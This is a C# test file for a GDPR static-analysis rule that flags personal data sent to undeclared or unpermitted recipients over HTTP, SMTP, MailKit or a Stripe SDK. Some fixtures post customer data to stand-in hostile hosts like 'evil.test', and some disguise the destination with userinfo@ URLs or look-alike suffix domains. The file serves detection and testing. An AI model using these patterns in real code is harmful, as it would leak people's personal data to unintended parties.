namespace Gdpr.Tests.Flow;

/// <summary>210: a recipient must be declared, listed under the purpose, and the category permitted; a mail needs the channel.</summary>
public class Disclosure
{
    [Fact]
    public Task An_undeclared_host() => Flows.In("""
        Task A(Contact c) => _http.PostAsJsonAsync("https://api.unknown.example/contacts", c); // GDPR210
        Task B(Contact c) => _http.PostAsJsonAsync("https://api.carrier.example/contacts", c);
        """);

    [Fact]
    public Task A_constant_beginning_tells_the_host_only_where_the_host_ends() => Flows.In("""
        private static Uri s_moved = new("https://api.carrier.example/contacts");
        private static string Elsewhere(string url) => url.Replace("carrier", "unknown");
        Task A(Contact c, string x) => _http.PostAsJsonAsync($"https://api.carrier.example{x}", c); // GDPR210
        Task B(Contact c, string x) => _http.PostAsJsonAsync("https://api.carrier.example." + x, c); // GDPR210
        Task D(Contact c, string x) => _http.PostAsJsonAsync($"https://{x}@api.unknown.example/", c); // GDPR210
        Task E(Contact c) => _http.PostAsJsonAsync("https://api.carrier.example@api.unknown.example/", c); // GDPR210
        Task F(Contact c) => _http.PostAsJsonAsync(Elsewhere("https://api.carrier.example/"), c); // GDPR210
        Task G(Contact c) => _http.PostAsJsonAsync(s_moved, c); // GDPR210
        Task H(Contact c, string x) => _http.PostAsJsonAsync($"https://api.carrier.example/{x}", c);
        Task I(Contact c, string x) => _http.PostAsJsonAsync("https://API.Carrier.example:443/x?y=" + x, c);
        Task J(Contact c, string x) => _http.PostAsJsonAsync(string.Format("https://api.carrier.example/{0}", x), c);
        """);

    [Fact]
    public Task A_base_address_that_is_set_to_two_hosts_is_unknown() => Flows.Of("""
        [Processing("order-handling")] public class Envois
        {
            private readonly HttpClient _a, _b;
            public Envois(HttpClient a, HttpClient b) { (_a, _b) = (a, b); _a.BaseAddress = new Uri("https://api.carrier.example/"); _b.BaseAddress = new Uri("https://api.carrier.example/"); }
            public void Déplacer() => _a.BaseAddress = new Uri("https://api.unknown.example/");
            private Task A(Contact c) => _a.PostAsJsonAsync("contacts", c); // GDPR210
            private Task B(Contact c) => _b.PostAsJsonAsync("contacts", c);
        }
        """);

    [Fact]
    public Task A_declared_host_that_the_purpose_does_not_list() => Flows.In("""
        Task A(Contact c) => _http.PutAsJsonAsync("https://in.tracker.example/contacts", c); // GDPR210
        Task B(Contact c) => _http.PutAsJsonAsync("https://api.carrier.example/contacts", c);
        """);

    [Fact]
    public Task The_purpose_decides_about_the_recipient() => Flows.In("""
        [Processing("support")] Task A(Customer c) => _http.PostAsJsonAsync("https://api.carrier.example/x", new { c.Name }); // GDPR210
        [Processing("order-handling")] Task B(Customer c) => _http.PostAsJsonAsync("https://api.carrier.example/x", new { c.Name });
        [Processing("support"), Processing("order-handling")] Task D(Customer c) => _http.PostAsJsonAsync("https://api.carrier.example/x", new { c.Name });
        """);

    [Fact]
    public Task Without_a_purpose_nothing_is_disclosed() => Flows.Of("""
        public class Envoi(HttpClient http)
        {
            private Task A([Personal("contact.email")] string mail) => http.PostAsJsonAsync("https://api.carrier.example/x", new { mail }); // GDPR210
            [Processing("order-handling")] private Task B([Personal("contact.email")] string mail) => http.PostAsJsonAsync("https://api.carrier.example/x", new { mail });
        }
        """);

    [Fact]
    public Task The_category_must_be_permitted() => Flows.In("""
        Task A([Personal("health")] string allergies) => _http.PostAsJsonAsync("https://api.carrier.example/x", new { allergies }); // GDPR210
        Task B([Personal("contact.phone")] string phone) => _http.PostAsJsonAsync("https://api.carrier.example/x", new { phone });
        """);

    [Fact]
    public Task Hosts_are_compared_as_whole_labels() => Flows.In("""
        Task A(Contact c) => _http.PostAsJsonAsync("https://evil-ovh.net/x", c); // GDPR210
        Task B(Contact c) => _http.PostAsJsonAsync("https://storage.gra.cloud.ovh.net/x", c);
        Task D(Contact c) => _http.PostAsJsonAsync("https://api.carrier.example.evil.test/x", c); // GDPR210
        Task E(Contact c) => _http.PostAsJsonAsync("https://API.Carrier.example/x", c);
        Task F(Contact c) => _http.PostAsJsonAsync("https://evil.test/?to=api.carrier.example", c); // GDPR210
        """);

    [Fact]
    public Task Every_content_carries_to_the_call_that_sends() => Flows.In("""
        Task A(Customer c) { var body = new StringContent("{\"mail\":\"" + c.Email + "\"}"); return _http.PostAsync("https://api.unknown.example/x", body); } // GDPR210
        Task B(Customer c) { var body = new StringContent("{\"id\":" + c.Id + "}"); return _http.PostAsync("https://api.unknown.example/x", body); }
        Task D(Customer c) => _http.PostAsync("https://api.unknown.example/x", new FormUrlEncodedContent(new Dictionary<string, string> { ["mail"] = c.Email })); // GDPR210
        Task E(Customer c) => _http.PostAsync("https://api.unknown.example/x", JsonContent.Create(new { c.Name })); // GDPR210
        Task F(Customer c) { var form = new MultipartFormDataContent(); form.Add(new StringContent(c.Phone!), "phone"); return _http.PostAsync("https://api.unknown.example/x", form); } // GDPR210
        Task G(Customer c) { var form = new MultipartFormDataContent(); form.Add(new StringContent("x"), "phone"); return _http.PostAsync("https://api.unknown.example/x", form); }
        """);

    [Fact]
    public Task The_host_comes_from_the_base_address() => Flows.In("""
        Task A(Contact c)
        {
            var http = new HttpClient { BaseAddress = new Uri("https://api.unknown.example/") };
            return http.PostAsJsonAsync("contacts", c); // GDPR210
        }
        Task B(Contact c)
        {
            var http = new HttpClient { BaseAddress = new Uri("https://api.carrier.example/") };
            return http.PostAsJsonAsync("contacts", c);
        }
        """);

    [Fact]
    public Task The_host_comes_from_a_base_address_set_elsewhere() => Flows.Of("""
        [Processing("order-handling")] public class Client
        {
            private readonly HttpClient _http = new();
            public Client() => _http.BaseAddress = new Uri("https://api.unknown.example/");
            private Task A(Contact c) => _http.PostAsJsonAsync("contacts", c); // GDPR210
            private Task B(Contact c) => _http.PostAsJsonAsync("contacts", new { c.Rank });
        }
        """);

    [Fact]
    public Task The_host_comes_from_a_typed_client_s_registration() => Flows.Of("""
        using Microsoft.Extensions.DependencyInjection;
        public static class Services
        {
            public static void Add(IServiceCollection s)
            {
                s.AddHttpClient<Unknown>(h => h.BaseAddress = new Uri("https://api.unknown.example/"));
                s.AddHttpClient<Carrier>(h => h.BaseAddress = new Uri("https://api.carrier.example/"));
            }
        }
        [Processing("order-handling")] public class Unknown(HttpClient http) { private Task A(Contact c) => http.PostAsJsonAsync("contacts", c); } // GDPR210
        [Processing("order-handling")] public class Carrier(HttpClient http) { private Task B(Contact c) => http.PostAsJsonAsync("contacts", c); }
        """);

    [Fact]
    public Task The_host_comes_from_a_field() => Flows.In("""
        private static readonly Uri s_unknown = new("https://api.unknown.example/contacts");
        private static readonly Uri s_carrier = new("https://api.carrier.example/contacts");
        private const string Unknown = "https://api.unknown.example";
        Task A(Contact c) => _http.PostAsJsonAsync(s_unknown, c); // GDPR210
        Task B(Contact c) => _http.PostAsJsonAsync(s_carrier, c);
        Task D(Contact c) => _http.PostAsJsonAsync(Unknown + "/contacts", c); // GDPR210
        Task E(Contact c) => _http.PostAsJsonAsync($"{Unknown}/contacts/{c.Rank}", c); // GDPR210
        """);

    [Fact]
    public Task The_host_comes_from_a_request_message() => Flows.In("""
        Task A(Contact c)
        {
            var request = new HttpRequestMessage(HttpMethod.Post, "https://api.unknown.example/contacts") { Content = JsonContent.Create(c) };
            return _http.SendAsync(request); // GDPR210
        }
        Task B(Contact c)
        {
            var request = new HttpRequestMessage(HttpMethod.Post, "https://api.carrier.example/contacts") { Content = JsonContent.Create(c) };
            return _http.SendAsync(request);
        }
        Task D(Customer c)
        {
            var request = new HttpRequestMessage(HttpMethod.Post, "https://api.unknown.example/contacts");
            request.Headers.Add("X-Customer", c.Name);
            return _http.SendAsync(request); // GDPR210
        }
        """);

    [Fact]
    public Task A_method_that_discloses_says_to_whom() => Flows.In("""
        [DisclosedTo("tracker")] private static void Track(string text) { }
        [DisclosedTo("carrier")] private static void Ship(string text) { }
        void A(Customer c) => Track(c.Email); // GDPR210
        void B(Customer c) => Ship(c.Email);
        void D(Customer c) => Track("C" + c.Id);
        """);

    [Fact]
    public Task A_parameter_that_discloses_says_to_whom() => Flows.In("""
        private static void Send([DisclosedTo("tracker")] string text, string note) { }
        void A(Customer c) => Send(c.Email, "x"); // GDPR210
        void B(Customer c) => Send("x", c.Email);
        """);

    [Fact]
    public Task A_class_that_discloses_says_to_whom() => Flows.Of("""
        [DisclosedTo("tracker")] internal class Tracking { public void Send(string text) { } }
        [DisclosedTo("carrier")] internal class Shipping { public void Send(string text) { } }
        [Processing("order-handling")] internal class Cases
        {
            void A(Customer c, Tracking t) => t.Send(c.Email); // GDPR210
            void B(Customer c, Shipping s) => s.Send(c.Email);
        }
        """);

    [Fact]
    public Task The_policy_names_sinks_of_libraries() => Flows.In("""
        void A(Customer c, Vendor.Tracker t) => t.Send(c.Email); // GDPR210
        void B(Customer c, Vendor.Tracker t) => t.Ship(c.Email);
        void D(Customer c, Vendor.Tracker t) => t.Send("C" + c.Id);
        """);

    [Fact]
    public Task A_mail_needs_a_purpose_with_the_channel() => Flows.In("""
        private readonly System.Net.Mail.SmtpClient _smtp = new();
        void A(Customer c) => _smtp.Send("shop@boutique.example", c.Email, "Bonjour", "Votre commande"); // GDPR210
        [Processing("direct-marketing")] void B(Customer c) => _smtp.Send("shop@boutique.example", c.Email, "Bonjour", "Nos offres");
        """);

    [Fact]
    public Task A_mail_message_carries_to_the_call_that_sends() => Flows.In("""
        private readonly System.Net.Mail.SmtpClient _smtp = new();
        async Task A(Customer c)
        {
            using var mail = new System.Net.Mail.MailMessage { From = new("shop@boutique.example"), Subject = "Bonjour" };
            mail.To.Add(c.Email);
            await _smtp.SendMailAsync(mail); // GDPR210
        }
        [Processing("direct-marketing")] async Task B(Customer c)
        {
            using var mail = new System.Net.Mail.MailMessage { From = new("shop@boutique.example"), Subject = "Bonjour" };
            mail.To.Add(c.Email);
            await _smtp.SendMailAsync(mail);
        }
        """);

    [Fact]
    public Task MailKit_sends_mail() => Flows.In("""
        private readonly MailKit.Net.Smtp.SmtpClient _mailKit = new();
        void A(Customer c) { var m = new MimeKit.MimeMessage(); m.To.Add(MimeKit.MailboxAddress.Parse(c.Email)); _mailKit.Send(m); } // GDPR210
        [Processing("direct-marketing")] void B(Customer c) { var m = new MimeKit.MimeMessage(); m.To.Add(MimeKit.MailboxAddress.Parse(c.Email)); _mailKit.Send(m); }
        """);

    [Fact]
    public Task The_SDK_of_a_recipient_that_is_not_declared() => Flows.In("""
        void A(Customer c, Stripe.CustomerService stripe) => stripe.Create(new Stripe.CustomerCreateOptions { Email = c.Email }); // GDPR210
        void B(Customer c, Stripe.CustomerService stripe) => stripe.Create(new Stripe.CustomerCreateOptions { Description = "C" + c.Id });
        """);

    [Fact]
    public Task A_helper_that_sends_is_reported_at_the_argument() => Flows.In("""
        private Task Push(object body) => _http.PostAsJsonAsync("https://api.unknown.example/x", body);
        Task A(Customer c) => Push(new { c.Email }); // GDPR210
        Task B(Customer c) => Push(new { c.Id });
        """);

    [Fact]
    public Task A_pseudonym_sent_away_stays_personal() => Flows.In("""
        Task A(Customer c) => _http.PostAsJsonAsync("https://api.unknown.example/x", new { who = Privacy.Token(c.Email) }); // GDPR210
        Task B(Customer c) => _http.PostAsJsonAsync("https://api.unknown.example/x", new { who = Privacy.Mask(c.Email) });
        """, FlowWorld.WithPseudonyms);

    [Fact]
    public Task An_entity_with_more_than_the_purpose_lists() => Flows.In("""
        Task A(Customer c) => _http.PostAsJsonAsync("https://api.carrier.example/x", c); // GDPR210
        Task B(Customer c) => _http.PostAsJsonAsync("https://api.carrier.example/x", new { c.Name, c.Phone });
        """);
}
